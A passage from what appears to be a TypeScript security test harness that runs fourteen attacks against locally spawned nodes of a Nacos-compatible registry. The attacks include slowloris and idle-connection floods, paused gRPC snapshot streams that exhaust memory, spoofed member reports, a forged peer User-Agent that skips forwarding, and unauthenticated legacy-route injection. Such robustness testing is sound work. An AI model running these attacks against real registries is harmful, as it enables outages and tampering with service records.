  const within13 = { bytes: udpBytes, datagrams: udpDatagrams };
  const sent = sentPolls + sentChanges;
  row(
    "HTTP bytes sent (100 polls + 400 changes)",
    `${sent} B (polls ${sentPolls} B, changes ${sentChanges} B; changes ${summarizeStatuses(changeStatuses)})`,
  );
  row("UDP bytes at 127.0.0.2 within 5 s", `${within5.bytes} B in ${within5.datagrams} datagrams`);
  row(
    "amplification within 5 s (UDP/HTTP)",
    `${(within5.bytes / sent).toFixed(2)}× (vs polls only ${(within5.bytes / sentPolls).toFixed(1)}×)`,
  );
  row(
    "UDP bytes within 13 s (incl. unacked resends)",
    `${within13.bytes} B in ${within13.datagrams} datagrams → ${(within13.bytes / sent).toFixed(2)}×`,
  );
};

// ---------------------------------------------------------------------------------------------------------
// 5. a write acknowledged just before SIGTERM

const sigtermLoss: Attack = async (s, row) => {
  const [a0, b] = await s.cluster(["A", "B"], []);
  let a = a0;
  let lost = 0;
  const notes: string[] = [];
  for (let round = 1; round <= 5; round++) {
    if (a.exited()) {
      a = await s.node({
        label: `A#${round}`,
        port: a.port,
        args: ["--members", `${a.address},${b.address}`],
        waitFor: "ready",
        timeoutMs: 40_000,
      });
      await waitMembersUp(a, 2, 20_000);
      await waitMembersUp(b, 2, 20_000);
    }
    const service = await serviceOwnedBy(a, a.address, `loss-r${round}`);
    const ip = `192.0.2.${40 + round}`;
    const r = await register(a, { serviceName: service, ip, port: 80 });
    if (r.status !== 200) notes.push(`round ${round}: register HTTP ${r.status}`);
    await sleep(300);
    const exit = await a.stop("SIGTERM", 10_000);
    const there = await poll(() => lists(b, service, ip, 80), 3_000, 100);
    if (!there) lost++;
    notes.push(`r${round}: ${there ? "kept" : "lost"} (exit ${exit.code ?? exit.signal})`);
  }
  row("writes lost (SIGTERM 300 ms after 'ok', default 1000 ms sync delay)", `lost ${lost}/5`);
  row("rounds", notes.join("; "));
};

// ---------------------------------------------------------------------------------------------------------
// 6. with gRPC TLS configured, does anything still go to a peer in plaintext HTTP?

function certDir(): string {
  for (const dir of [
    path.join(ROOT, "test/transport/grpc-tls"),
    path.join(HERE, "../../test/transport/grpc-tls"),
    "/work/before/test/transport/grpc-tls",
  ]) {
    if (existsSync(path.join(dir, "server.pem"))) return dir;
  }
  throw new Error("test certificates (test/transport/grpc-tls) not found");
}

const tlsDowngrade: Attack = async (s, row) => {
  const certs = certDir();
  const pa = await freePort();
  const pp = await freePort();
  const seen: Array<{ method: string; url: string; secret: boolean; ua: string }> = [];
  const fake = http.createServer((req, res) => {
    const secret = req.headers["x-nacos-cluster-secret"] !== undefined;
    seen.push({ method: req.method ?? "", url: req.url ?? "", secret, ua: String(req.headers["user-agent"] ?? "") });
    req.resume();
    req.on("end", () => {
      res.setHeader("Content-Type", "application/json");
      // answer like a Nacos 1.4 node would
      if ((req.url ?? "").includes("/cluster/report")) res.end(JSON.stringify({ code: 200, message: null, data: "true" }));
      else res.end("ok");
    });
  });
  fake.listen(pp, "127.0.0.1");
  await once(fake, "listening");
  s.defer(() => new Promise((r) => fake.close(() => r(undefined))));
  s.defer(() => fake.closeAllConnections());
  await s.node({
    label: "A",
    port: pa,
    args: [
      "--members",
      `127.0.0.1:${pa},127.0.0.1:${pp}`,
      "--cluster-secret",
      SECRET,
      "--grpc-tls-cert",
      path.join(certs, "server.pem"),
      "--grpc-tls-key",
      path.join(certs, "server.key"),
      "--grpc-tls-ca",
      path.join(certs, "ca.pem"),
    ],
    waitFor: "listening",
  });
  await sleep(10_000); // everything A sends P in its first 10 s
  const withSecret = seen.filter((r) => r.secret);
  row(
    "plaintext HTTP requests from A to peer P within 10 s",
    seen.length === 0
      ? "none"
      : `${seen.length}: ${trunc([...new Set(seen.map((r) => `${r.method} ${r.url.split("?")[0]}`))].join(", "), 120)}`,
  );
  row(
    "…carrying X-Nacos-Cluster-Secret",
    seen.length === 0 ? "n/a" : `${withSecret.length}/${seen.length}${withSecret.length > 0 ? " (secret sent in cleartext)" : ""}`,
  );
};

// ---------------------------------------------------------------------------------------------------------
// 7. the 1.4 peer routes on the client port of a gRPC-only node

const legacyRoutesExposed: Attack = async (s, row) => {
  const pa = await freePort();
  const pp = await freePort();
  const a = await s.node({
    label: "A",
    port: pa,
    args: ["--members", `127.0.0.1:${pa},127.0.0.1:${pp}`, "--peer-transport", "grpc", "--body-limit", "1048576"],
    waitFor: "ready",
  });
  const service = "DEFAULT_GROUP@@legacy-inject";
  const legacyKey = `com.alibaba.nacos.naming.iplist.ephemeral.public##${service}`;
  const inst = legacyInstance("203.0.113.7", service);
  const body = JSON.stringify({ [legacyKey]: { key: legacyKey, value: { instanceList: [inst] }, timestamp: 1 } });
  const r = await request("PUT", `${a.url}/nacos/v1/ns/distro/datum`, { headers: { "Content-Type": "application/json" }, body });
  row("PUT /nacos/v1/ns/distro/datum (1.4 body, no secret)", `HTTP ${r.status} ${trunc(oneLine(r.text), 80)}`);
  const listed = await poll(() => lists(a, "legacy-inject", "203.0.113.7", 80), 2_000, 100);
  row("injected instance then listed", listed ? "yes" : "no");
  // a 5 MiB body (valid JSON) with --body-limit 1048576
  const bigService = "DEFAULT_GROUP@@legacy-big";
  const bigKey = `com.alibaba.nacos.naming.iplist.ephemeral.public##${bigService}`;
  const bigInst = { ...inst, instanceId: `203.0.113.8#80#DEFAULT#${bigService}`, ip: "203.0.113.8", serviceName: bigService };
  const big = JSON.stringify({ [bigKey]: { key: bigKey, value: { instanceList: [bigInst] }, timestamp: 1, padding: "x".repeat(5 * MiB) } });
  const rb = await request("PUT", `${a.url}/nacos/v1/ns/distro/datum`, {
    headers: { "Content-Type": "application/json" },
    body: big,
    timeoutMs: 30_000,
  });
  row(`${(big.length / MiB).toFixed(1)} MiB body with --body-limit 1048576`, `HTTP ${rb.status} ${trunc(oneLine(rb.text), 80)}`);
  const control = await request(
    "POST",
    `${a.url}/nacos/v1/ns/instance?${qs({ serviceName: "body-control", ip: "203.0.113.9", port: 80 })}`,
    { headers: { "Content-Type": "application/x-www-form-urlencoded" }, body: `pad=${"x".repeat(2 * MiB)}` },
  );
  row("control: 2 MiB form body to POST /nacos/v1/ns/instance", `HTTP ${control.status} ${trunc(oneLine(control.text), 60)}`);
};

// ---------------------------------------------------------------------------------------------------------
// 8. a member speaking for another member

const identitySpoof: Attack = async (s, row) => {
  const pa = await freePort();
  const pb = await freePort();
  const pc = await freePort();
  const c = `127.0.0.3:${pc}`; // a real third member on another loopback address
  const members = `127.0.0.1:${pa},127.0.0.1:${pb},${c}`;
  const args = ["--members", members, "--cluster-secret", SECRET];
  const [a] = await Promise.all([
    s.node({ label: "A", port: pa, args, timeoutMs: 45_000 }),
    s.node({ label: "B", port: pb, args, timeoutMs: 45_000 }),
    s.node({ label: "C", port: pc, host: "127.0.0.3", args, timeoutMs: 45_000 }),
  ]);
  await waitMembersUp(a, 3, 20_000);
  const cView = async (): Promise<string> => {
    const r = await request("GET", `${a.url}/nacos/v1/core/cluster/nodes`, { timeoutMs: 5_000 });
    const m = (r.json().data as Array<Record<string, any>>).find((x) => x.address === c);
    if (m === undefined) return "absent";
    const ext = (m.extendInfo ?? {}) as Record<string, any>;
    const ts = (ext.tsNacos ?? {}) as Record<string, any>;
    return `state=${m.state} peerTransport=${m.peerTransport ?? ext.peerTransport ?? "?"} grpcPort=${ts.grpcPort ?? "?"} grpcPeer=${ts.grpcPeer ?? "?"}`;
  };
  row("C as A sees it before", await cView());
  // HTTP: a Nacos Member JSON claiming to be C (no tsNacos marker: "a plain Nacos 1.4 node"), sent from 127.0.0.1
  const member = { ip: "127.0.0.3", port: pc, address: c, state: "UP", extendInfo: { version: "1.4.1" }, failAccessCnt: 0 };
  const r = await request("POST", `${a.url}/nacos/v1/core/cluster/report`, {
    headers: { "Content-Type": "application/json", "X-Nacos-Cluster-Secret": SECRET, "User-Agent": "Nacos-Server:1.4.1" },
    body: JSON.stringify(member),
  });
  const accepted = r.status === 200 && /"code":200/.test(r.text);
  row("HTTP report as C from 127.0.0.1 (with secret)", `HTTP ${r.status} ${accepted ? "accepted (code 200)" : trunc(oneLine(r.text), 60)}`);
  row("C as A sees it right after HTTP report", await cView());
  // gRPC: MemberService/Report with x-nacos-source = C and member.address = C, claiming another gRPC port
  const client = rawClient(s, `127.0.0.1:${a.grpcPort}`);
  const report = toBinary(
    ReportRequestSchema,
    create(ReportRequestSchema, {
      member: { address: c, version: "0.1.0", grpcPort: 1, abilities: { grpcPeer: true, httpPeer: true }, ready: true, viewHash: "" },
    }),
  );
  const g = await unaryRaw(client, `${MEMBER}/Report`, report, metadata({ "x-nacos-cluster-secret": SECRET, "x-nacos-source": c }));
  row("gRPC Report source=C member=C (grpcPort 1) from 127.0.0.1", statusText(g));
  row("C as A sees it right after gRPC report", await cView());
  details["identity-spoof:C-json-on-A"] = (await request("GET", `${a.url}/nacos/v1/core/cluster/nodes`)).text;
};

// ---------------------------------------------------------------------------------------------------------
// 9. slowloris and many idle connections

const slowloris: Attack = async (s, row) => {
  const a = await s.node({ label: "standalone" });
  const sock = net.connect({ host: "127.0.0.1", port: a.port });
  s.defer(() => sock.destroy());
  sock.on("error", () => {});
  sock.resume(); // read what the server sends, so its close is seen
  await once(sock, "connect");
  sock.write("GET /nacos/v1/ns/instance/list HTTP/1.1\r\nHost: x\r\n");
  const t0 = Date.now();
  const closed = await Promise.race([once(sock, "close").then(() => true), sleep(100_000).then(() => false)]);
  row("partial-header connection closed by server after", closed ? `${((Date.now() - t0) / 1000).toFixed(1)} s` : ">100 s (still open)");
  sock.destroy();
  // 2000 idle connections
  const N = 2000;
  const socks: net.Socket[] = [];
  s.defer(() => {
    for (const x of socks) x.destroy();
  });
  let connected = 0;
  let failed = 0;
  const started = Date.now();
  await Promise.all(
    Array.from(
      { length: N },
      () =>
        new Promise<void>((resolve) => {
          const x = net.connect({ host: "127.0.0.1", port: a.port });
          x.resume(); // so a close by the server is seen
          socks.push(x);
          x.setTimeout(10_000, () => {
            failed++;
            x.destroy();
            resolve();
          });
          x.on("connect", () => {
            connected++;
            x.setTimeout(0);
            resolve();
          });
          x.on("error", () => {
            failed++;
            resolve();
          });
        }),
    ),
  );
  row(`idle connections accepted (of ${N})`, `${connected} (${failed} failed, ${((Date.now() - started) / 1000).toFixed(1)} s)`);
  await sleep(15_000);
  const stillOpen = socks.filter((x) => !x.destroyed && x.readyState === "open").length;
  const live = await request("GET", `${a.url}/nacos/v1/console/health/liveness`, { agent: false, timeoutMs: 10_000 });
  row("idle connections still open after 15 s", String(stillOpen));
  row("liveness while they are open", `HTTP ${live.status}`);
  for (const x of socks) x.destroy();
};

// ---------------------------------------------------------------------------------------------------------
// 10. switch values out of range

const switchBounds: Attack = async (s, row) => {
  const a = await s.node({ label: "standalone" });
  const put = (entry: string, value: string) => request("PUT", `${a.url}/nacos/v1/ns/operator/switches?${qs({ entry, value })}`);
  await register(a, { serviceName: "switch-s", ip: "192.0.2.50", port: 80 });
  const beat = () => request("PUT", `${a.url}/nacos/v1/ns/instance/beat?${qs({ serviceName: "switch-s", ip: "192.0.2.50", port: 80 })}`);
  for (const [entry, value] of [
    ["clientBeatInterval", "1000000000000"],
    ["clientBeatInterval", "1.5"],
    ["clientBeatInterval", "99999999999999999999"],
    ["pushCacheMillis", "5"],
  ] as const) {
    const r = await put(entry, value);
    const b = await beat();
    const interval = b.status === 200 ? String(b.json().clientBeatInterval) : `beat HTTP ${b.status}`;
    row(
      `PUT switches ${entry}=${value}`,
      `HTTP ${r.status} ${trunc(oneLine(r.text), 60)}; beat then answers clientBeatInterval=${interval}`,
    );
  }
  const sw = await request("GET", `${a.url}/nacos/v1/ns/operator/switches`);
  const parsed = sw.status === 200 ? sw.json() : {};
  row("switches now", `clientBeatInterval=${parsed.clientBeatInterval} defaultPushCacheMillis=${parsed.defaultPushCacheMillis}`);
  const last = await beat();
  row("beat answer", `HTTP ${last.status} ${trunc(oneLine(last.text), 100)}`);
};

// ---------------------------------------------------------------------------------------------------------
// 11. a forged peer User-Agent on the client port

const forgedUa: Attack = async (s, row) => {
  const [a, b] = await s.cluster(["A", "B"], ["--cluster-secret", SECRET, "--sync-delay-ms", "5000"]);
  // control: an ordinary client write to the non-owner A is forwarded to B
  const control = await serviceOwnedBy(a, b.address, "ua-control");
  const rc = await register(a, { serviceName: control, ip: "192.0.2.60", port: 80 });
  const controlOwner = await lists(b, control, "192.0.2.60", 80);
  row("control: plain register to non-owner", `HTTP ${rc.status}; owner lists it at once: ${controlOwner ? "yes (forwarded)" : "no"}`);
  const service = await serviceOwnedBy(a, b.address, "ua-forged");
  const r = await register(a, { serviceName: service, ip: "192.0.2.61", port: 80 }, { "User-Agent": "Nacos-Server:1.4.1" });
  const onOwner = await lists(b, service, "192.0.2.61", 80);
  const onNonOwner = await lists(a, service, "192.0.2.61", 80);
  row("forged UA register to non-owner (no secret header)", `HTTP ${r.status} ${trunc(oneLine(r.text), 40)}`);
  row("owner lists it at once / non-owner lists it at once", `${onOwner ? "yes" : "no"} / ${onNonOwner ? "yes" : "no"}`);
  row(
    "verdict",
    onOwner ? "forwarded" : onNonOwner ? "executed locally on the non-owner (forward skipped, no secret needed)" : "not applied anywhere",
  );
  const later = await poll(() => lists(b, service, "192.0.2.61", 80), 7_000, 200);
  row("owner lists it within 7 s", later ? "yes" : "no");
  row("digests A / B after", `${await digest(a)} / ${await digest(b)}`);
};

// ---------------------------------------------------------------------------------------------------------
// 12. many snapshot streams that never read

const snapshotStreams: Attack = async (s, row) => {
  const pa = await freePort();
  const pb = await freePort(); // configured member with nothing listening; we speak as it
  const other = `127.0.0.1:${pb}`;
  const a = await s.node({
    label: "A",
    port: pa,
    args: ["--members", `127.0.0.1:${pa},${other}`, "--cluster-secret", SECRET, "--expire-instances", "false"],
    waitFor: "ready",
    timeoutMs: 45_000,
  });
  const client = rawClient(s, `127.0.0.1:${a.grpcPort}`);
  const md = () => metadata({ "x-nacos-cluster-secret": SECRET, "x-nacos-source": other });
  const meta = (i: number, j: number) => ({ zone: `zone-${j % 3}`, version: `1.0.${i % 100}` });
  let loaded = 0;
  for (let batch = 0; batch < 4; batch++) {
    const datums = manyDatums(`snap-b${batch}`, 500, 10, other, BigInt(Date.now()), meta);
    const r = await unaryRaw(client, `${DISTRO}/Sync`, syncBytes(datums), md(), 60_000);
    if (r.code !== grpc.status.OK) throw new Error(`loading Sync failed: ${statusText(r)}`);
    loaded += 500 * 10;
  }
  row("registry loaded", `${loaded} instances in 2000 services (${await digest(a)})`);
  await sleep(2_000);
  const before = memOf(a.pid);
  const live = livenessProbe(a.url);
  const snapshotRequest = toBinary(SnapshotRequestSchema, create(SnapshotRequestSchema, { resumeAfter: "" }));
  const buf = Buffer.from(snapshotRequest);
  const ended: boolean[] = [];
  const errors = new Map<string, number>();
  const streams: grpc.ClientReadableStream<Buffer>[] = [];
  s.defer(() => {
    for (const c of streams) c.cancel();
  });
  for (let i = 0; i < 300; i++) {
    const call = client.makeServerStreamRequest(`${DISTRO}/Snapshot`, identity, identity, buf, md(), {});
    call.pause();
    ended.push(false);
    call.on("error", (err: grpc.ServiceError) => {
      ended[i] = true;
      errors.set(grpc.status[err.code] ?? String(err.code), (errors.get(grpc.status[err.code] ?? String(err.code)) ?? 0) + 1);
    });
    call.on("status", () => (ended[i] = true));
    streams.push(call);
  }
  await sleep(10_000);
  const after10 = memOf(a.pid);
  const g = memGrowth(before, after10);
  row("300 paused streams: RSS growth after 10 s", g.rss);
  row("300 paused streams: VmHWM growth after 10 s", g.hwm);
  await sleep(20_000);
  const l = await live.stop();
  const open = ended.filter((e) => !e).length;
  row(
    "streams still open after 30 s",
    `${open}/300${errors.size > 0 ? ` (ended: ${[...errors].map(([k, v]) => `${v}× ${k}`).join(", ")})` : ""}`,
  );
  row("worst liveness during the 30 s", liveText(l));
  const after30 = memOf(a.pid);
  row("RSS growth after 30 s", memGrowth(before, after30).rss);
  for (const c of streams) c.cancel();
};

// ---------------------------------------------------------------------------------------------------------
// 13. metadata `a=`

const metadataAEq: Attack = async (s, row) => {
  const a = await s.node({ label: "standalone" });
  const r = await register(a, { serviceName: "meta-s", ip: "192.0.2.70", port: 80, metadata: "a=" });
  row("register metadata=a=", `HTTP ${r.status} ${trunc(oneLine(r.text), 100)}`);
  const l = await request("GET", `${a.url}/nacos/v1/ns/instance/list?${qs({ serviceName: "meta-s" })}`);
  const hosts = l.status === 200 ? (l.json().hosts as Array<{ metadata: unknown }>) : [];
  row("listed metadata", hosts.length > 0 ? JSON.stringify(hosts[0]!.metadata) : `none (HTTP ${l.status})`);
  row("node alive after", a.exited() ? "no" : "yes");
};

// ---------------------------------------------------------------------------------------------------------
// 14. three `npm start` at the same moment in the same checkout

const npmStartRace: Attack = async (s, row) => {
  const TRIALS = 5;
  const results: string[] = [];
  let crashedTrials = 0;
  let exportErrors = 0;
  let firstCrash: string | undefined;
  for (let trial = 1; trial <= TRIALS; trial++) {
    const ports = [await freePort(), await freePort(), await freePort()];
    const procs = ports.map((port) => {
      const { child, output } = spawnTracked("npm", ["start", "--", "--port", String(port), "--host", "127.0.0.1"], ROOT, {
        ...process.env,
        NACOS_LOG_LEVEL: "info",
      });
      s.defer(() => stopChild(child, "SIGKILL", 5_000));
      return { port, child, output };
    });
    const ready = new Set<number>();
    await poll(
      async () => {
        for (const p of procs) {
          if (ready.has(p.port)) continue;
          const r = await request("GET", `http://127.0.0.1:${p.port}/nacos/v1/console/health/readiness`, {
            timeoutMs: 2_000,
            agent: false,
          });
          if (r.status === 200) ready.add(p.port);
        }
        return procs.every((p) => ready.has(p.port) || p.child.exitCode !== null);
      },
      60_000,
      300,
    );
    const all = procs.map((p) => p.output()).join("\n");
    const exportError = /does not provide an export named/.test(all);
    const crash = /(SyntaxError|ReferenceError|TypeError|Cannot find module|ERR_MODULE_NOT_FOUND|error TS\d+)[^\n]*/.exec(all);
    const exited = procs.filter((p) => p.child.exitCode !== null).length;
    if (exportError) exportErrors++;
    if (exited > 0 || crash) crashedTrials++;
    if (crash && firstCrash === undefined) firstCrash = crash[0];
    results.push(`t${trial}: ${ready.size}/3 ready, ${exited} exited${exportError ? ", export error" : ""}`);
    details[`npm-start-race:t${trial}`] = procs.map((p) => ({ port: p.port, exit: p.child.exitCode, tail: p.output().slice(-2000) }));
    for (const p of procs) await stopChild(p.child, "SIGTERM", 10_000);
  }
  row(`trials (${TRIALS} × 3 npm start at once, up to 60 s each)`, results.join("; "));
  row("trials with a crashed node", `${crashedTrials}/${TRIALS}`);
  row("trials showing 'does not provide an export named'", `${exportErrors}/${TRIALS}`);
  row("first crash output", firstCrash === undefined ? "none" : trunc(firstCrash, 120));
  // leave a consistent build behind for whoever runs next
  const rebuild = spawnTracked("npm", ["run", "-s", "build"], ROOT, process.env);
  const [code] = (await withTimeout(once(rebuild.child, "exit"), 180_000, "rebuild")) as [number | null];
  row("dist rebuilt afterwards (npm run build)", code === 0 ? "ok" : `exit ${code}: ${trunc(oneLine(rebuild.output()), 100)}`);
};

// ---------------------------------------------------------------------------------------------------------
// runner

const ATTACKS: Array<[string, Attack, number]> = [
  ["grpc-unauth-decode", grpcUnauthDecode, 180_000],
  ["hlc-poison", hlcPoison, 240_000],
  ["udp-gzip-bomb", udpGzipBomb, 120_000],
  ["udp-amplification", udpAmplification, 240_000],
  ["sigterm-loss", sigtermLoss, 300_000],
  ["tls-downgrade", tlsDowngrade, 90_000],
  ["legacy-routes-exposed", legacyRoutesExposed, 120_000],
  ["identity-spoof", identitySpoof, 120_000],
  ["slowloris", slowloris, 200_000],
  ["switch-bounds", switchBounds, 60_000],
  ["forged-ua", forgedUa, 120_000],
  ["snapshot-streams", snapshotStreams, 200_000],
  ["metadata-a-eq", metadataAEq, 60_000],
  ["npm-start-race", npmStartRace, 400_000],
];

/** Distinct warn-or-worse messages of a node's pino output (with their error field). */
function warnings(output: string): string[] {
  const out = new Set<string>();
  for (const line of output.split("\n")) {
    if (!line.startsWith("{")) continue;
    try {
      const o = JSON.parse(line) as { level?: number; msg?: string; error?: string; reason?: string };
      const why = o.error ?? o.reason;
      if ((o.level ?? 0) >= 40) out.add(`${o.msg ?? ""}${why ? `: ${why}` : ""}`);
    } catch {
      // not JSON
    }
  }
  return [...out];
}

/** Error-level lines and stack traces in a node's output. */
function troubles(output: string): string[] {
  const out: string[] = [];
  for (const line of output.split("\n")) {
    if (line.trim() === "") continue;
    let parsed: { level?: number; msg?: string; error?: string } | undefined;
    try {
      parsed = line.startsWith("{") ? JSON.parse(line) : undefined;
    } catch {
      parsed = undefined;
    }
    if (parsed !== undefined) {
      if ((parsed.level ?? 0) >= 50) out.push(`${parsed.msg ?? ""}${parsed.error ? `: ${parsed.error}` : ""}`);
    } else if (/Error|^\s+at |FATAL|heap out of memory/i.test(line)) {
      out.push(line.trim());
    }
  }
  return out;
}

async function main(): Promise<void> {
  const selected = ATTACKS.filter(([name]) => ONLY === undefined || ONLY.includes(name));
  if (ONLY !== undefined) {
    const unknown = ONLY.filter((n) => !ATTACKS.some(([name]) => name === n));
    if (unknown.length > 0) throw new Error(`unknown attack(s): ${unknown.join(", ")}`);
  }
  console.error(`attacking ${MAIN}`);
  for (const [name, attack, limit] of selected) {
    const scope = new Scope();
    const row = (figure: string, value: unknown) => {
      rows.push({ attack: name, figure, value: String(value) });
      console.error(`  ${name} | ${figure} | ${String(value)}`);
    };
    const started = Date.now();
    console.error(`▶ ${name}`);
    try {
      await withTimeout(attack(scope, row), limit, name);
    } catch (err) {
      row("ERROR", trunc(oneLine((err as Error).message ?? String(err)), 300));
    } finally {
      const unexpected = scope.nodes.filter((n) => n.exited() && !n.stoppedByUs);
      for (const n of unexpected) row(`node ${n.label} exited on its own`, `code ${n.child.exitCode} signal ${n.child.signalCode}`);
      await scope.close();
      const problems = scope.nodes.flatMap((n) => troubles(n.output()).map((t) => `${n.label}: ${t}`));
      if (problems.length > 0) {
        const distinct = [...new Set(problems)];
        row("node error/stack lines", `${problems.length}: ${trunc(distinct.slice(0, 3).join(" | "), 240)}`);
        details[`${name}:troubles`] = distinct.slice(0, 50);
      }
      console.error(`  (${((Date.now() - started) / 1000).toFixed(0)} s)`);
    }
  }
  agent.destroy();
  // the table
  const w1 = Math.max(6, ...rows.map((r) => r.attack.length));
  const w2 = Math.max(6, ...rows.map((r) => r.figure.length));
  console.log(`${"attack".padEnd(w1)}  ${"figure".padEnd(w2)}  value`);
  console.log(`${"-".repeat(w1)}  ${"-".repeat(w2)}  -----`);
  for (const r of rows) console.log(`${r.attack.padEnd(w1)}  ${r.figure.padEnd(w2)}  ${r.value}`);
  if (JSON_OUT !== undefined) {
    writeFileSync(JSON_OUT, JSON.stringify({ root: ROOT, main: MAIN, at: new Date().toISOString(), rows, details }, null, 2));
    console.error(`wrote ${JSON_OUT}`);
  }
}

main().then(
  () => process.exit(0),
  (err: unknown) => {
    console.error(err);
    process.exit(1);
  },
);
